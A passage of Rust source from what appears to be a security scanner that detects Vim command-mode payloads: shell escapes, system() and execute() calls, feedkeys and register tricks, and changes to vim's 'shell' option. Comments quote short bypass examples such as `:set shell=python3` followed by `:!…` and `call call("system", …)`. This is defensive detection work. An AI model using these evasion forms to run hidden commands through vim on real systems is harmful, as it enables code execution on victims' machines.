    let before = &text[..at];
    let lead = before
        .iter()
        .rev()
        .take_while(|b| matches!(b, b' ' | b'\t' | b':'))
        .count();
    let start = at - lead;
    let placed = start == 0
        || matches!(text[start - 1], b'\n' | b'|')
        || ex_command_before(&before[..start]);
    if !placed {
        return None;
    }
    let mut keys = &text[at + len..];
    keys = keys.strip_prefix(b"!").unwrap_or(keys);
    let keys = &keys[keys
        .iter()
        .take_while(|b| matches!(b, b' ' | b'\t'))
        .count()..];
    let end = keys_end.and_then(|end| memchr::memchr(end, keys));
    Some(&keys[..end.unwrap_or(keys.len())])
}

/// Where vim is first told to set an environment variable (`:let $X = …`,
/// `setenv(…)`): a shell escape after it may find any variable set. Found by
/// `setenv(` and by each `let` followed by blanks and `$`: linear.
fn vim_sets_environment(bytes: &[u8]) -> Option<usize> {
    let setenv = crate::literals::find(bytes, b"setenv(");
    // `let $X = …`, `let$X=…`, `let [$X, $Y] = […]`, `for $X in […]` (review s11-r10:
    // vim ran each): a `$` among the targets, before the `=` / ` in`, on the same line
    // or `|` segment, within 64 bytes of it (a bounded look per `let`/`for`).
    let target_has_env = |at: usize, len: usize| {
        let rest = &bytes[at + len..bytes.len().min(at + len + 64)];
        let rest = &rest[..memchr::memchr3(b'\n', b'|', b'=', rest).unwrap_or(rest.len())];
        let rest = memchr::memmem::find(rest, b" in").map_or(rest, |end| &rest[..end]);
        memchr::memchr(b'$', rest).is_some()
    };
    let let_env = crate::literals::find_iter(bytes, b"let").find(|&at| target_has_env(at, 3));
    let for_env = crate::literals::find_iter(bytes, b"for").find(|&at| {
        bytes.get(at + 3).is_some_and(|b| matches!(b, b' ' | b'\t')) && target_has_env(at, 3)
    });
    setenv.into_iter().chain(let_env).chain(for_env).min()
}

/// Where vim's 'shell' option is first set (`:set shell=python3`, `:se sh:perl`,
/// `:let &shell = …`, also inside an `:exe` string): a later `:!` or `system()` hands its
/// text to that program as `{shell} -c {text}`, which the shell model cannot judge
/// (review s11-r10: `:set shell=python3` then `:!open('RAN','w')` ran Python under
/// `vim -es -u NONE`). Found by `sh` after a blank or `&`, then `ell` or not, then an
/// assignment, on a line (or `|` segment) holding a `set`/`let` word before it: linear.
fn vim_sets_shell(bytes: &[u8]) -> Option<usize> {
    crate::literals::find_iter(bytes, b"sh").find(|&at| {
        let before = at.checked_sub(1).map(|i| bytes[i]);
        let mut end = at + 2;
        if bytes[end..].starts_with(b"ell") {
            end += 3;
        }
        let rest = &bytes[end..];
        let by_set = matches!(before, Some(b' ' | b'\t'))
            && [&b"="[..], b":", b"+=", b"^=", b"-="]
                .iter()
                .any(|op| rest.starts_with(op));
        // `&shell`, `&g:shell`, `&l:sh`: not `s:shell` (a variable of the script).
        let option =
            before == Some(b'&') || (at >= 3 && matches!(&bytes[at - 3..at], b"&g:" | b"&l:"));
        let by_let = option && matches!(rest.trim_ascii_start().first(), Some(b'=' | b'.'));
        if !by_set && !by_let {
            return false;
        }
        // The command of the line (or of its `|` segment) sets it.
        let start = bytes[..at]
            .iter()
            .rposition(|&b| matches!(b, b'\n' | b'|'))
            .map_or(0, |i| i + 1);
        let words = bytes[start..at]
            .split(|&b| matches!(b, b' ' | b'\t' | b':' | b'"' | b'\'' | b'&'))
            .filter(|w| !w.is_empty());
        let setters: &[&[u8]] = if by_set {
            &[b"se", b"set", b"setg", b"setglobal", b"setl", b"setlocal"]
        } else {
            &[b"let"]
        };
        words.into_iter().any(|w| setters.contains(&w))
    })
}

/// Whether an escape's line holds a command written as text: what a program other than
/// the shell would be given.
fn is_command_text(line: &[u8]) -> bool {
    let line = line.trim_ascii();
    !line.is_empty()
        && line
            .iter()
            .all(|&b| (b' '..=b'~').contains(&b) || b == b'\t' || b == b'\r')
}

/// What a shell escape at `at` runs in: vim's `:!` hands the line to `$SHELL -c`, where
/// `$0` is the shell itself (`!$0 -c …` runs one, checked with vim); a variable vim set
/// before it (see [`vim_sets_environment`]) may hold anything; a command given no
/// operand reads no input from the file and does nothing (`!sh`, `!nc`: random bytes
/// hold `:!nc ` once per few GiB).
fn ex_context(vim_environment: Option<usize>, at: usize) -> sh::Context<'static> {
    let set_before = vim_environment.is_some_and(|from| from < at);
    sh::Context {
        zero_is_shell: true,
        underscore_is_shell: false,
        operand_needed: true,
        environment: if set_before { &|_| true } else { &|_| false },
    }
}

/// Vim's built-in functions that run a program, a library's function or Ex lines of
/// their own: named in a string (`call("system", […])`, `function("sys" . "tem")`) they
/// run as when called by name.
const VIM_RUNNING_FUNCTIONS: [&[u8]; 8] = [
    b"system",
    b"systemlist",
    b"job_start",
    b"term_start",
    b"libcall",
    b"libcallnr",
    b"execute",
    b"win_execute",
];

/// Where `text` names one of [`VIM_RUNNING_FUNCTIONS`] by a string handed to `call()`,
/// `function()` or `funcref()` (literals, joined with `.` or `..`: vim names the
/// function when it runs the line), and the name. Review r22-screen: vim -es ran `call
/// call("system", ["sh -c …"])`, `let F = function("sys" . "tem")` then `call F("sh -c
/// …")`, and the file was clean. A name with a part known only at run time is not
/// judged (vim's own plug-ins call functions named by variables).
fn vim_function_by_name(
    text: &[u8],
    named: &dyn Fn(&[u8]) -> bool,
    called: &dyn Fn(usize) -> bool,
) -> Option<(usize, &'static [u8])> {
    // One pass for the `(` of all three, checked by the quote after it and the name
    // before it: three `memmem` passes cost ~15% of the screening of a 2 MB CT. None at
    // all when the file's shared index says none of the three is there (pixel data holds
    // a `(` every ~256 bytes).
    if [&b"call("[..], b"function(", b"funcref("]
        .iter()
        .all(|opener| crate::literals::absent(text, opener))
    {
        return None;
    }
    memchr::memchr_iter(b'(', text)
        .filter(|&paren| {
            matches!(
                text[paren + 1..].trim_ascii_start().first(),
                Some(b'"' | b'\'')
            )
        })
        .filter_map(|paren| {
            let head = &text[..=paren];
            [&b"call("[..], b"function(", b"funcref("]
                .into_iter()
                .find(|opener| head.ends_with(opener))
                .map(|opener| (paren + 1 - opener.len(), opener))
        })
        .filter(|&(at, _)| at == 0 || !(is_vim_name_byte(text[at - 1]) || text[at - 1] == b'.'))
        .filter(|&(at, _)| called(at))
        .find_map(|(at, opener)| {
            let argument = text[at + opener.len()..].trim_ascii_start();
            if !matches!(argument.first(), Some(b'"' | b'\'')) {
                return None;
            }
            let value = vim_expression(argument, false, named)?;
            if !value.holes.is_empty() {
                return None;
            }
            let name = value.text.trim_ascii();
            VIM_RUNNING_FUNCTIONS
                .into_iter()
                .find(|f| name == *f)
                .map(|f| (at, f))
        })
}

/// Where a string run as an Ex line (`exe "call system(…)"`) calls one of
/// [`VIM_RUNNING_FUNCTIONS`] other than `execute()` (whose string is followed as an
/// Ex line's), and the name. Review r22-screen: vim -es ran `exe "call sys" . "tem(\"sh
/// -c …\")"` and the file was clean.
fn vim_running_call(text: &[u8]) -> Option<(usize, &'static [u8])> {
    VIM_RUNNING_FUNCTIONS
        .into_iter()
        .filter(|f| !f.ends_with(b"execute"))
        .find_map(|f| {
            crate::literals::find_iter(text, f)
                .find(|&at| {
                    (at == 0 || !(is_vim_name_byte(text[at - 1]) || text[at - 1] == b'.'))
                        && text[at + f.len()..].trim_ascii_start().starts_with(b"(")
                })
                .map(|at| (at, f))
        })
}

/// Vim script calls that hand a string to the shell: `call system('cmd')`, `let x =
/// system("cmd")`, `exe '!cmd'` (review s6-r10: vim -es ran them after garbage). The
/// string is judged by the shell model, as vim builds it from literals joined with `.`
/// or `..` and their escapes (`exe "!s"."h -c …"`, `"\x73h"`: session 12, checked with
/// vim -es; see [`vim_expression`]). An `:execute` string is an Ex command line of its
/// own: a shell escape in it is found as on a line of the file, behind modifiers and
/// ranges (`exe "silent! !sh …"`, `exe 'sil' '!sh …'`, issue 10, session 13). A part of
/// the string known only at run time (a variable, a call: `exe "!" . a`) that lands in
/// the shell's command line, or where the Ex command's name goes (`exe a`, `exe "sil " .
/// a`), makes the line one whose command vim builds when it runs: an alert, as a batch
/// command name built from a variable is (what runs is known only then). Found by
/// `system(` / `systemlist(` / `exe`; the walk back to the line start goes over the
/// bytes an assignment or a call can hold and stops at any other (a `(` among them), and
/// the strings evaluated count towards [`MAX_EX_MODELLED_BYTES`].
fn find_vim_string_command(
    bytes: &[u8],
    vim_environment: Option<usize>,
    vim_shell: Option<usize>,
    modelled: &mut Modelled<'_>,
) -> Option<Command> {
    let weak = |name: &[u8]| is_weak(name);
    let wrapper = sh::is_runner;
    let clock = modelled.clock;
    let assigned = std::cell::OnceCell::new();
    let named = |name: &[u8]| {
        assigned
            .get_or_init(|| vim_assigned_names(bytes))
            .contains(name)
    };
    let built = |at: usize, what: &str| Command {
        offset: at,
        interpreter: "ex",
        severity: Severity::Alert,
        kind: FindingKind::ActiveContent,
        detail: format!(
            "a vim command (\"{}\") whose {what} vim builds from a variable or a call when the file is fed to it as commands (vim -es < file): what it runs is known only then",
            line_excerpt(bytes, at)
        ),
    };
    // A shell command line handed over, judged by the shell model.
    let judge = |at: usize, body: &[u8]| -> Option<Command> {
        if vim_shell.is_some_and(|set| set < at) && is_command_text(body) {
            return Some(Command {
                offset: at,
                interpreter: "ex",
                severity: Severity::Alert,
                kind: FindingKind::ActiveContent,
                detail: format!(
                    "a vim command handing a string to the shell (\"{}\") after vim's 'shell' option is set: vim hands it to that program, whatever it is, when the file is fed to it as commands (vim -es < file)",
                    line_excerpt(bytes, at)
                ),
            });
        }
        let context = ex_context(vim_environment, at);
        match sh::first_command_until(body, &is_strong, &weak, &wrapper, context, clock) {
            Some(sh::Outcome::Runs(..)) => Some(Command {
                offset: at,
                interpreter: "ex",
                severity: Severity::Alert,
                kind: FindingKind::ActiveContent,
                detail: format!(
                    "a vim command handing a string to the shell (\"{}\") that vim runs when the file is fed to it as commands (vim -es < file)",
                    line_excerpt(bytes, at)
                ),
            }),
            _ => None,
        }
    };
    let charge = |modelled: &mut Modelled<'_>, at: usize, value: &VimValue| -> Option<Command> {
        modelled
            .charge(value.text.len())
            .then(|| spent_warning(at, modelled))
    };
    let line_head = |at: usize| -> &[u8] {
        let back = bytes[..at]
            .iter()
            .rev()
            .take_while(|b| {
                b.is_ascii_alphanumeric()
                    || matches!(b, b' ' | b'\t' | b':' | b'_' | b'=' | b'.' | b'!')
            })
            .count();
        let start = at - back;
        if start == 0 || matches!(bytes[start - 1], b'\n' | b'|') {
            bytes[start..at].trim_ascii_start()
        } else {
            b"-"
        }
    };
    // Whether a function named at `at` is called by the line it is on.
    let called = |at: usize| {
        let head = line_head(at);
        let colons = head
            .iter()
            .take_while(|b| matches!(b, b':' | b' ' | b'\t'))
            .count();
        let head = &head[colons..];
        [
            &b"call "[..],
            b"let ",
            b"echo ",
            b"eval ",
            b"exe ",
            b"execute ",
            b"sil ",
            b"silent ",
            b"const ",
            b"var ",
        ]
        .iter()
        .any(|word| head.starts_with(word))
    };
    // Functions that run a program or a library's function themselves, whatever their
    // arguments: vim -es ran `call job_start(['sh', '-c', …])` and `call
    // libcallnr('libc.so.6', 'system', …)` (review s14-r01).
    for name in [
        &b"job_start("[..],
        b"term_start(",
        b"libcall(",
        b"libcallnr(",
    ] {
        for at in crate::literals::find_iter(bytes, name) {
            if at > 0 && (bytes[at - 1].is_ascii_alphanumeric() || bytes[at - 1] == b'_') {
                continue;
            }
            if called(at) {
                return Some(Command {
                    offset: at,
                    interpreter: "ex",
                    severity: Severity::Alert,
                    kind: FindingKind::ActiveContent,
                    detail: format!(
                        "a vim command (\"{}\") that runs a program or a library's function (`{}`) when the file is fed to vim as commands (vim -es < file)",
                        line_excerpt(bytes, at),
                        String::from_utf8_lossy(&name[..name.len() - 1])
                    ),
                });
            }
        }
    }
    if let Some((at, function)) = vim_function_by_name(bytes, &named, &called) {
        return Some(built(
            at,
            &format!(
                "function (`{}`, named by a string)",
                String::from_utf8_lossy(function)
            ),
        ));
    }
    for at in crate::literals::find_iter(bytes, b"system") {
        let call = &bytes[at + 6..];
        if !(call.starts_with(b"(") || call.starts_with(b"list(")) {
            continue;
        }
        if !called(at) {
            continue;
        }
        let open = at + memchr::memchr(b'(', &bytes[at..]).unwrap_or(0) + 1;
        let argument = bytes.get(open..).unwrap_or_default().trim_ascii_start();
        let Some(value) = vim_expression(argument, false, &named) else {
            continue;
        };
        if let Some(spent) = charge(modelled, at, &value) {
            return Some(spent);
        }
        if !value.holes.is_empty() {
            return Some(built(at, "shell command line (given to system())"));
        }
        let body = value.text.strip_prefix(b"!").unwrap_or(&value.text);
        if let Some(found) = judge(at, body) {
            return Some(found);
        }
    }
    // `exe '!cmd'` / `execute "!cmd"` at a line start (or after `|`): the walk back goes
    // over blanks and colons only.
    let exe_commands = crate::literals::find_iter(bytes, b"exe").filter_map(|at| {
        let lead = bytes[..at]
            .iter()
            .rev()
            .take_while(|b| matches!(b, b' ' | b'\t' | b':'))
            .count();
        let start = at - lead;
        if start != 0 && !matches!(bytes[start - 1], b'\n' | b'|') {
            return None;
        }
        // `:exe` abbreviates `:execute` down to any prefix (`exec`, `execu`: vim -es runs
        // them), and a quote may follow the name with no blank (`exe"!sh …"` runs too).
        let rest = &bytes[at + 3..];
        let more = rest.iter().zip(b"cute").take_while(|(a, b)| a == b).count();
        let rest = &rest[more..];
        if !rest
            .first()
            .is_some_and(|b| matches!(b, b' ' | b'\t' | b'"' | b'\''))
        {
            return None;
        }
        vim_expression(rest.trim_ascii_start(), true, &named).map(|value| (at, value))
    });
    // The `execute()` function (and `win_execute()`, after its window) runs its string,
    // or each string of its list, as Ex command lines, as `:execute` does: vim -es ran
    // `call execute('silent !sh …')`, `let x = execute([…])` (review s14-r01).
    let execute_calls = crate::literals::find_iter(bytes, b"execute(").filter_map(|at| {
        let start = if bytes[..at].ends_with(b"win_") {
            at - 4
        } else {
            at
        };
        if start > 0
            && (bytes[start - 1].is_ascii_alphanumeric()
                || matches!(bytes[start - 1], b'_' | b':' | b'#'))
        {
            return None;
        }
        // `:execute(…)` alone on a line is `:execute (…)`.
        let alone = line_head(start)
            .iter()
            .all(|b| matches!(b, b':' | b' ' | b'\t'));
        // The body of a lambda (`{-> execute(…)}`, `{a, b -> execute(…)}`) runs it when
        // called (review s16-r10: vim -es ran `let F = {-> execute("norm! @a")}` then
        // `call F()`, and `timer_start(0, {-> …})`).
        let lambda = || {
            let before = bytes[..start].trim_ascii_end();
            let Some(before) = before.strip_suffix(b"->") else {
                return false;
            };
            let parameters = before
                .iter()
                .rev()
                .take(64)
                .take_while(|&&b| is_vim_name_byte(b) || matches!(b, b',' | b' ' | b'\t'))
                .count();
            before[..before.len() - parameters].ends_with(b"{")
        };
        if !called(start) && !alone && !lambda() {
            return None;
        }
        let mut argument = &bytes[at + 8..];
        if start != at {
            argument = after_first_argument(argument)?;
        }
        let argument = argument.trim_ascii_start();
        let value = match argument.strip_prefix(b"[") {
            Some(list) => vim_list(list),
            None => vim_expression(argument, false, &named)?,
        };
        Some((start, value))
    });
    // Registers the file writes (`let @a = …`, `setreg('a', …)`), and the `:normal`
    // lines and `@r` Ex lines of the file that run one: their keys or lines, the
    // register's value put in, are read as an `:execute` string's (review s15-r10).
    let registers = vim_register_writes(bytes, &named);
    let assigned_values = std::cell::OnceCell::new();
    // Keys given to `feedkeys()` are typed as if by the user (issue 10, session 17): in
    // Ex mode (`vim -es < file`) they are read as Ex command lines (vim -es ran `call
    // feedkeys(":!sh …\r")`, `feedkeys("!sh …\r")`, from a variable or a register),
    // and with the `x` flag they run as Normal-mode keys (`feedkeys("!!sh …\r", "nx")`):
    // both readings are judged, as an `:execute` string's and as `:normal`'s keys.
    // In a lambda's body (`timer_start(0, {-> feedkeys(…)})`) it runs when the lambda is
    // called (review s17-r10).
    let in_lambda = |at: usize| {
        let Some(before) = bytes[..at].trim_ascii_end().strip_suffix(b"->") else {
            return false;
        };
        let parameters = before
            .iter()
            .rev()
            .take(64)
            .take_while(|&&b| is_vim_name_byte(b) || matches!(b, b',' | b' ' | b'\t'))
            .count();
        before[..before.len() - parameters].ends_with(b"{")
    };
    // Called as a method (`":!sh …\r"->feedkeys()`) or named in a string that `map()`,
    // `filter()` or a timer evaluates (`"feedkeys(v:val)"`), its keys are known only
    // when it runs (review s17-r10: vim -es ran both).
    for at in crate::literals::find_iter(bytes, b"feedkeys(") {
        let method = bytes[..at].ends_with(b"->");
        let quoted = at > 0 && matches!(bytes[at - 1], b'"' | b'\'');
        if method || quoted {
            return Some(built(
                at,
                "keys typed by `feedkeys()` (as a method, or in a string evaluated later)",
            ));
        }
    }
    let feedkeys_calls = crate::literals::find_iter(bytes, b"feedkeys(")
        .filter(|&at| {
            (at == 0 || !(is_vim_name_byte(bytes[at - 1]) || bytes[at - 1] == b'.'))
                && (called(at) || in_lambda(at))
        })
        .filter_map(|at| {
            let argument = bytes[at + 9..].trim_ascii_start();
            let value = vim_expression(argument, false, &named)?;
            let mut keys = b"norm! ".to_vec();
            keys.extend_from_slice(&value.text);
            let normal = VimValue {
                text: keys,
                holes: value.holes.iter().map(|hole| hole + 6).collect(),
                sources: value.sources.clone(),
            };
            Some([(at, value), (at, normal)])
        })
        .flatten();
    // `feedkeys` named in a string (review s17-r10: vim -es ran `call call("feedkeys",
    // [":!sh …\r"])` and `let F = function("feedkeys")` then `call F(":!sh …\r")`): the
    // list handed to `call()` is read as the keys; a function reference calls it with
    // keys a static reading cannot follow, an alert.
    let mut by_name = Vec::new();
    for at in crate::literals::find_iter(bytes, b"feedkeys") {
        let quote = match at.checked_sub(1).map(|q| bytes[q]) {
            Some(q @ (b'"' | b'\'')) => q,
            _ => continue,
        };
        if bytes.get(at + 8) != Some(&quote) {
            continue;
        }
        let before = bytes[..at - 1].trim_ascii_end();
        if before.ends_with(b"call(") {
            let after = bytes[at + 9..].trim_ascii_start();
            if let Some(list) = after
                .strip_prefix(b",")
                .map(<[u8]>::trim_ascii_start)
                .and_then(|a| a.strip_prefix(b"["))
            {
                let value = vim_list(list);
                let mut keys = b"norm! ".to_vec();
                keys.extend_from_slice(&value.text);
                let normal = VimValue {
                    text: keys,
                    holes: value.holes.iter().map(|hole| hole + 6).collect(),
                    sources: value.sources.clone(),
                };
                by_name.push((at, value));
                by_name.push((at, normal));
            }
            continue;
        }
        if before.ends_with(b"function(") || before.ends_with(b"funcref(") {
            return Some(built(
                at,
                "keys typed by `feedkeys()` called through a function reference",
            ));
        }
    }
    if let Some(at) = registers.executes_too_deep {
        return Some(Command {
            offset: at,
            interpreter: "ex",
            severity: Severity::Warning,
            kind: FindingKind::NotInspected,
            detail: format!(
                "vim strings run as Ex lines inside one another more than {} deep (MAX_VIM_EXECUTE_NESTING): what they write into the buffer was not followed",
                vim_buffer::MAX_VIM_EXECUTE_NESTING
            ),
        });
    }
    // The buffer's lines run by `:source` (vim 9 sources the buffer with no file; the
    // file may be the one the script wrote): read as Ex lines (session 18).
    let mut sourced = None;
    if let (Some(at), Some(buffer)) = (registers.sources_buffer, &registers.buffer) {
        if buffer.built.is_some_and(|written| written < at) {
            return Some(built(
                at,
                "Ex lines (the buffer's lines, which it writes from a variable or a call, run by `:source`)",
            ));
        }
        if !buffer.text.is_empty() {
            sourced = Some((
                at,
                VimValue {
                    text: buffer.text.clone(),
                    holes: Vec::new(),
                    sources: Vec::new(),
                },
            ));
        }
    }
    let mut sources = exe_commands
        .chain(execute_calls)
        .chain(feedkeys_calls)
        .chain(by_name)
        .chain(sourced)
        .chain(register_runs_on_lines(bytes));
    let mut pending: Vec<(usize, VimValue, usize)> = Vec::new();
    loop {
        let (at, value, depth) = match pending.pop() {
            Some(item) => item,
            None => match sources.next() {
                Some((at, value)) => (at, value, 0),
                None => break,
            },
        };
        // A function that runs a program, called or named in the string run as an Ex
        // line: what it runs is known when the line runs.
        if let Some((call, function)) = vim_running_call(&value.text)
            && function.starts_with(b"system")
        {
            // `system()` and `systemlist()` hand their string to the shell: judged as
            // the file's own calls are.
            let open = call + memchr::memchr(b'(', &value.text[call..]).unwrap_or(0) + 1;
            let argument = value
                .text
                .get(open..)
                .unwrap_or_default()
                .trim_ascii_start();
            if let Some(line) = vim_expression(argument, false, &named) {
                if !line.holes.is_empty() {
                    return Some(built(at, "shell command line (given to system())"));
                }
                let body = line.text.strip_prefix(b"!").unwrap_or(&line.text);
                if let Some(found) = judge(at, body) {
                    return Some(found);
                }
            }
        } else if let Some((_, function)) = vim_running_call(&value.text)
            .or_else(|| vim_function_by_name(&value.text, &named, &|_| true))
        {
            return Some(built(
                at,
                &format!(
                    "string run as an Ex line, which calls `{}`",
                    String::from_utf8_lossy(function)
                ),
            ));
        }
        if memchr::memchr3(b'!', b'@', b'*', &value.text).is_none()
            && memchr::memchr(CTRL_R, &value.text).is_none()
            && value.holes.is_empty()
        {
            continue;
        }
        if let Some(spent) = charge(modelled, at, &value) {
            return Some(spent);
        }
        let text = &value.text;
        // A `feedkeys()` call in a string run as an Ex line (`exe "call feedkeys(…)"`,
        // review s17-r10): its keys are read as the file's own calls' are.
        for call in crate::literals::find_iter(text, b"feedkeys(") {
            if call > 0 && (is_vim_name_byte(text[call - 1]) || text[call - 1] == b'.') {
                continue;
            }
            let Some(keys) = vim_expression(text[call + 9..].trim_ascii_start(), false, &named)
            else {
                continue;
            };
            if depth >= MAX_VIM_REGISTER_NESTING {
                return Some(spent_warning(at, modelled));
            }
            let mut normal = b"norm! ".to_vec();
            normal.extend_from_slice(&keys.text);
            let normal = VimValue {
                text: normal,
                holes: keys.holes.iter().map(|hole| hole + 6).collect(),
                sources: keys.sources.clone(),
            };
            pending.push((at, keys, depth + 1));
            pending.push((at, normal, depth + 1));
        }
        // A shell escape in the string, as on a line of its own.
        for bang in memchr::memchr_iter(b'!', text) {
            if !escape_starts(&text[..bang]) {
                continue;
            }
            let end = memchr::memchr2(b'\n', b'\r', &text[bang..]).map_or(text.len(), |n| bang + n);
            if value.holes.iter().any(|&hole| hole > bang && hole <= end) {
                return Some(built(at, "shell command line (a `:!` escape)"));
            }
            if let Some(found) = judge(at, &text[bang + 1..end]) {
                return Some(found);
            }
        }
        // A filter of a `:normal` in the string (`exe "norm! !!sh …\r"`).
        let mut filter = None;
        let spent = normal_filters(text, None, modelled, &mut |_, command| {
            filter = if is_edited(command) {
                Some(built(
                    at,
                    "`:normal` filter command (edited by keys typed into its command line)",
                ))
            } else {
                judge(at, command)
            };
            filter.is_some()
        });
        if spent.is_some() {
            return Some(spent_warning(at, modelled));
        }
        if filter.is_some() {
            return filter;
        }
        // A part known only at run time among a filter's keys (`exe "norm! !!" . a`).
        let built_filter = crate::literals::find_iter(text, b"norm").any(|norm| {
            normal_keys(text, norm, None).is_some_and(|keys| {
                let keys_at = keys.as_ptr() as usize - text.as_ptr() as usize;
                memchr::memchr(b'!', keys).is_some_and(|bang| {
                    value
                        .holes
                        .iter()
                        .any(|&hole| hole > keys_at + bang && hole <= keys_at + keys.len())
                })
            })
        });
        if built_filter {
            return Some(built(at, "`:normal` filter command"));
        }
        // A part known only at run time among `:normal`'s keys before an Enter may be the
        // filter operator itself (`exe "norm! " . k . "sh …\r"` with `let k = "!!"`,
        // `repeat("!", 2)`: vim -es ran both, review s15-r10). Each part is put in as its
        // value when the file assigns the variable only literals, and as `!!` otherwise:
        // the keys after it are then judged as the filter's command line, so that
        // `exe "norm! " . lnum . "G"` (netrw) is no command and `. k . "sh -c …\r"` is.
        if !value.holes.is_empty() && crate::literals::find(text, b"norm").is_some() {
            let Some(filled) = fill_holes(
                &value,
                assigned_values.get_or_init(|| vim_assigned_values(bytes, &named)),
            ) else {
                return Some(Command {
                    offset: at,
                    interpreter: "ex",
                    severity: Severity::Warning,
                    kind: FindingKind::NotInspected,
                    detail: format!(
                        "`:normal` keys from an element of a dictionary or list literal of more than {MAX_VIM_LITERAL_ELEMENTS} elements (MAX_VIM_LITERAL_ELEMENTS): its value was not read"
                    ),
                });
            };
            if modelled.charge(filled.len()) {
                return Some(spent_warning(at, modelled));
            }
            let mut filter = None;
            let spent = normal_filters(&filled, None, modelled, &mut |_, command| {
                filter = if is_edited(command) {
                    Some(built(
                        at,
                        "`:normal` filter command (edited by keys typed into its command line)",
                    ))
                } else {
                    judge(at, command).map(|_| {
                        built(
                            at,
                            "`:normal` keys (the filter operator `!` among them, from a variable or a call)",
                        )
                    })
                };
                filter.is_some()
            });
            if spent.is_some() {
                return Some(spent_warning(at, modelled));
            }
            if filter.is_some() {
                return filter;
            }
        }
        // Registers run by `:normal` keys (`norm! @a`) or as Ex lines (`@a`, `exe "@a"`):
        // their values are read as keys or lines in turn, MAX_VIM_REGISTER_NESTING deep;
        // one whose value the file writes from a variable or a call is known only then.
        for run in register_runs(text, &value.holes, &registers, at, &named) {
            match run {
                RegisterRun::Unknown(register) => {
                    return Some(built(
                        at,
                        &format!(
                            "`:normal` keys or Ex lines (run from the register `{}`, which it writes from a variable, a call or the buffer)",
                            char::from(register)
                        ),
                    ));
                }
                RegisterRun::Value(value) => {
                    if depth >= MAX_VIM_REGISTER_NESTING {
                        return Some(Command {
                            offset: at,
                            interpreter: "ex",
                            severity: Severity::Warning,
                            kind: FindingKind::NotInspected,
                            detail: format!(
                                "vim registers run from registers more than {MAX_VIM_REGISTER_NESTING} deep (MAX_VIM_REGISTER_NESTING): not followed further"
                            ),
                        });
                    }
                    pending.push((at, value, depth + 1));
                }
            }
        }
        // A part known only at run time where the command's name goes.
        if value.holes.iter().any(|&hole| {
            escape_starts(&text[..hole]) || {
                let word = text[..hole]
                    .iter()
                    .rev()
                    .take_while(|b| b.is_ascii_lowercase())
                    .count();
                word > 0 && escape_starts(&text[..hole - word])
            }
        }) {
            return Some(built(at, "Ex command"));
        }
    }
    None
}

/// How deep registers run from registers (`let @a = "@b"`, `norm! @a`) are followed;
/// deeper is a warning.
pub const MAX_VIM_REGISTER_NESTING: usize = 8;

/// The elements of one dictionary or list literal whose values are put in for `d.k`,
/// `d["k"]`, `l[0]`; an element past them named by `:normal` keys is a warning.
pub const MAX_VIM_LITERAL_ELEMENTS: usize = 256;

/// The key under which [`vim_assigned_values`] marks a literal read only to
/// [`MAX_VIM_LITERAL_ELEMENTS`] (no operand holds a NUL).
const TRUNCATED: &[u8] = b"\0truncated";

/// Elements by the operand that names them, and their values.
type Elements = Vec<(Vec<u8>, Vec<u8>)>;

/// The literal elements of the dictionary or list literal `expression` assigned to
/// `name`, each under every operand spelling that names it, to
/// [`MAX_VIM_LITERAL_ELEMENTS`] (and whether there were more).
fn literal_elements(name: &[u8], expression: &[u8]) -> (Elements, bool) {
    let mut elements = Vec::new();
    let (dict, mut rest) = match expression.first() {
        Some(b'{') => (true, &expression[1..]),
        Some(b'[') => (false, &expression[1..]),
        _ => return (elements, false),
    };
    let mut index = 0usize;
    loop {
        if index == MAX_VIM_LITERAL_ELEMENTS {
            return (elements, true);
        }
        rest = rest.trim_ascii_start();
        let key = if dict {
            let Some((key, after)) = vim_literal(rest) else {
                break;
            };
            let Some(after) = after.trim_ascii_start().strip_prefix(b":") else {
                break;
            };
            rest = after.trim_ascii_start();
            Some(key)
        } else {
            None
        };
        let Some((value, after)) = vim_literal(rest) else {
            break;
        };
        let spellings: Vec<Vec<u8>> = match key {
            Some(key) => {
                let mut spellings = vec![
                    [name, b"[\"", &key, b"\"]"].concat(),
                    [name, b"['", &key, b"']"].concat(),
                ];
                if key.iter().all(|&b| b.is_ascii_alphanumeric() || b == b'_') {
                    spellings.push([name, b".", &key].concat());
                }
                spellings
            }
            None => vec![[name, b"[", index.to_string().as_bytes(), b"]"].concat()],
        };
        for spelling in spellings {
            elements.push((spelling, value.clone()));
        }
        index += 1;
        match after.trim_ascii_start().strip_prefix(b",") {
            Some(after) => rest = after,
            None => break,
        }
    }
    (elements, false)
}

/// `value`'s text with each part known only at run time put in: the literal value the
/// file assigns the variable (one holding a `!` first), or `!!`, the filter operator,
/// when the part is a call, or a variable the file assigns anything but literals.
/// `None` when a part is an element past [`MAX_VIM_LITERAL_ELEMENTS`].
fn fill_holes(
    value: &VimValue,
    assigned: &std::collections::HashMap<Vec<u8>, Option<Known>>,
) -> Option<Vec<u8>> {
    let mut filled = Vec::with_capacity(value.text.len() + 2 * value.holes.len());
    let mut from = 0usize;
    for (i, &hole) in value.holes.iter().enumerate() {
        filled.extend_from_slice(&value.text[from..hole]);
        from = hole;
        let source = value.sources.get(i).map_or(&[][..], Vec::as_slice);
        match assigned.get(source) {
            Some(Some(known)) => filled.extend_from_slice(known.chosen()),
            None => {
                // An element of a literal read only to MAX_VIM_LITERAL_ELEMENTS: None.
                let base = source
                    .iter()
                    .position(|&b| matches!(b, b'.' | b'['))
                    .map(|end| &source[..end]);
                if base.is_some_and(|base| assigned.contains_key(&[base, TRUNCATED].concat())) {
                    return None;
                }
                filled.extend_from_slice(b"!!");
            }
            Some(None) => filled.extend_from_slice(b"!!"),
        }
    }
    filled.extend_from_slice(&value.text[from..]);
    Some(filled)
}

/// The literal values the file assigns each vim variable (`let k = "!!"`, `let k .= "x"`
/// added to the one before; `const`, `var`, `final` too), in one pass over the file:
/// `None` for a variable assigned anything but literals.
fn vim_assigned_values(
    bytes: &[u8],
    named: &dyn Fn(&[u8]) -> bool,
) -> std::collections::HashMap<Vec<u8>, Option<Known>> {
    let mut values: std::collections::HashMap<Vec<u8>, Option<Known>> =
        std::collections::HashMap::new();
    let keywords: [&[u8]; 4] = [b"let", b"const", b"var", b"final"];
    for (at, keyword) in keywords
        .iter()
        .flat_map(|k| crate::literals::find_iter(bytes, k).map(move |at| (at, *k)))
    {
        if at > 0 && is_vim_name_byte(bytes[at - 1]) {
            continue;
        }
        let rest = &bytes[at + keyword.len()..];
        let blanks = rest
            .iter()
            .take_while(|b| matches!(b, b' ' | b'\t'))
            .count();
        let name = &rest[blanks..];
        let len = name.iter().take_while(|&&b| is_vim_name_byte(b)).count();
        if blanks == 0 || len == 0 {
            continue;
        }
